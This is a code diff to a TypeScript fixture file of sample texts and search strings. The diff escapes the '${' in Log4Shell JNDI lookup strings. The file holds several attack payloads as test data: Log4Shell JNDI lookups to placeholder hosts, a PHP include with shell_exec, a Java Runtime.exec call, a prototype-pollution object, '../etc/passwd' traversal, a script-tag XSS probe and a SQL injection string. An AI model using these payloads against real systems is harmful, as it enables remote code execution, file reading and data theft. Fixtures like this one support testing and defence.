@@ -8,7 +8,7 @@ export const texts: Readonly<Record<string, string>> = {
   PHP: '<?php $page = $_GET["page"]; $s = fsockopen("localhost", 80); include $page . ".ini"; shell_exec($s);',
   Java: '(java.lang.Runtime).getRuntime().exec("whoami") // rO0ABXNyABFqYXZh',
   'Log4Shell explained':
-    'Attackers send <code>${jndi:ldap://192.0.2.1/a}</code> or <code>${${lower:j}ndi:rmi}</code>.',
+    'Attackers send <code>$\u007bjndi:ldap://192.0.2.1/a}</code> or <code>$\u007b$\u007blower:j}ndi:rmi}</code>.',
   'React explained':
     '{"then":"$1:__proto__:then","status":"resolved_model","x":"$1:constructor:constructor"}',
   'paths of a server':
@@ -60,7 +60,7 @@ export const titles = [
 
 /** What people type into the search box, titles apart. */
 export const searches = [
-  '${jndi:ldap://example.com/a}',
+  '$\u007bjndi:ldap://example.com/a}',
   '../etc/passwd',
   '<script>alert("hello")</script>',
   "' or '1'='1",
